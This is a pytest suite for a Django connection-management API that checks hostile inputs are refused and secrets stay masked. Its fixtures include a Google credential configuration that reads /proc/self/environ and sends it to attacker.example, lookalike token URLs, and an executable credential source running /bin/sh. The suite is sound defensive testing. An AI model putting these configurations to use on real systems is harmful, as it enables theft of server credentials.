"""What hostile testers tried: each is refused, and nothing of it stays."""

from __future__ import annotations

import json
from typing import Any

import pytest
from django.test import Client

from connections.models import Connection, ConnectionTest
from connections.portability import carry_out, plan, read
from tests.api.calls import CONNECTIONS, OWN, Caller, everything, stored
from tests.conftest import ACTOR
from tests.roles import user_of

pytestmark = pytest.mark.django_db
ENVIRONMENT = {"file": "/proc/self/environ"}
CONFIGURATION = {
    "type": "external_account",
    "audience": "x",
    "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
    "token_url": "http://attacker.example/token",
    "credential_source": ENVIRONMENT,
}
MOVED = '{"project": "acme-reports", "api_endpoint": "http://attacker.example"}'
EDGES = ("9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00+12:00", "9000-01-01T00:00:00+00:00")


def google(**configuration: Any) -> dict[str, Any]:
    text = json.dumps({**CONFIGURATION, **configuration})
    extra = json.dumps({"project": "acme-reports", "credential_config_file": text})
    return {"connection_id": "mine", "conn_type": "google_cloud_platform", "extra": extra}


def test_who_may_only_test_has_no_draft_of_theirs_tested() -> None:
    stored("gcp", "google_cloud_platform", extra={"project": "acme-reports"})
    before = everything()
    operator = Caller("Operator")
    for body in (
        {"connection_id": "mine", "conn_type": "google_cloud_platform"},
        {"connection_id": "gcp", "conn_type": "google_cloud_platform", "extra": MOVED},
    ):
        for call in ("test", "enqueue-test"):
            assert operator.post(f"{CONNECTIONS}/{call}", body).status_code == 403
    assert everything() == before
    assert not ConnectionTest.objects.exists()


@pytest.mark.parametrize(
    "configuration",
    [
        {},
        {"token_url": "https://sts.googleapis.com.attacker.example/token"},
        {"token_url": "https://ann@attacker.example/.googleapis.com/"},
        {
            "token_url": "https://sts.googleapis.com/v1/token",
            "service_account_impersonation_url": "http://attacker.example/x",
        },
        {
            "token_url": "https://sts.googleapis.com/v1/token",
            "credential_source": {"executable": {"command": "/bin/sh"}},
        },
    ],
)
def test_a_configuration_that_sends_the_workers_files_elsewhere_is_refused(
    configuration: dict[str, Any],
) -> None:
    answer = Caller("Editor").post(CONNECTIONS, google(**configuration))
    assert answer.status_code == 422
    assert not Connection.objects.exists()


def test_a_configuration_for_google_itself_is_taken() -> None:
    body = google(token_url="https://sts.googleapis.com/v1/token")
    assert Caller("Editor").post(CONNECTIONS, body).status_code == 201


@pytest.mark.parametrize("moment", EDGES)
def test_a_moment_at_the_edge_of_time_is_refused(moment: str) -> None:
    text = json.dumps({"far": {"conn_type": "http", "expires_at": moment}})
    (change,) = plan(read(text, file_format="json"), existing="fail").changes
    assert change.kind == "refused"
    caller = Caller("Viewer")
    body = {"name": "far", "scopes": ["read"], "expires_at": moment}
    before = everything()
    assert caller.post(f"{OWN}/tokens", body).status_code == 422
    assert everything() == before


def test_another_type_does_not_show_what_the_first_one_hides() -> None:
    stored("dd", "datadog", extra={"app_key": "tulip-7-tulip"})
    before = everything()
    editor = Caller("Editor")
    body = {"connection_id": "dd", "conn_type": "zzz"}
    answer = editor.patch(f"{CONNECTIONS}/dd", body)
    assert (answer.status_code, "tulip" in answer.content.decode()) == (422, False)
    text = json.dumps({"dd": {"conn_type": "zzz", "extra": {"app_key": "***"}}})
    (change,) = plan(read(text, file_format="json"), existing="overwrite").changes
    assert (change.kind, "app_key" in change.reason) == ("refused", True)
    assert everything() == before
    renewed = {**body, "extra": '{"app_key": "shown on purpose"}'}
    assert editor.patch(f"{CONNECTIONS}/dd", renewed).status_code == 200


TARGETS = [{"host": "a", "token": "AAAA-1111"}, {"host": "b", "token": "BBBB-2222"}]


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ([{"host": "b", "token": "***"}], TARGETS[1:]),
        ([{"host": "b", "token": "***"}, {"host": "a", "token": "***"}], TARGETS[::-1]),
        ([{"host": "c", "token": "***"}, TARGETS[1]], [{**TARGETS[0], "host": "c"}, TARGETS[1]]),
        ([{"host": "c", "token": "***"}], None),
    ],
)
def test_a_kept_secret_stays_with_its_own_element_of_a_list(
    sent: list[dict[str, str]], kept: list[dict[str, str]] | None
) -> None:
    stored("many", "tulip_db", extra={"targets": TARGETS})
    body = {"connection_id": "many", "conn_type": "tulip_db"}
    extra = json.dumps({"targets": sent})
    answer = Caller("Editor").patch(f"{CONNECTIONS}/many", {**body, "extra": extra})
    assert answer.status_code == (422 if kept is None else 200)
    assert Connection.objects.get().load().extra["targets"] == (TARGETS if kept is None else kept)


@pytest.mark.parametrize("method", ["get", "delete"])
@pytest.mark.parametrize("path", [f"{CONNECTIONS}/%00", f"{OWN}/connections/%00/used-by"])
def test_an_id_that_no_database_takes_is_not_found(method: str, path: str) -> None:
    answer = getattr(Caller("Admin"), method)(path)
    assert answer.status_code in (404, 405)


def test_the_export_page_takes_no_id_that_cannot_be() -> None:
    client = Client()
    client.force_login(user_of("Admin"))
    assert client.get("/connections/export/?id=%00").status_code < 500


def test_what_lists_show_in_clear_is_no_secret() -> None:
    secret = {"password": "tulip-7-tulip"}
    stored("odd", "http", extra={"project": secret})
    row = Connection.objects.get()
    assert row.target == ""
    answer = Caller("Viewer").get(f"{CONNECTIONS}/odd")
    assert "tulip" not in answer.content.decode()


def test_an_import_with_a_name_given_twice_is_told_by_the_name() -> None:
    text = "{" + ",".join(f'"x{n}": "http://h"' for n in range(20_000)) + ', "x7": "http://h"}'
    with pytest.raises(Exception, match="x7"):
        carry_out(read(text, file_format="json"), existing="fail", skip_bad=False, actor=ACTOR)
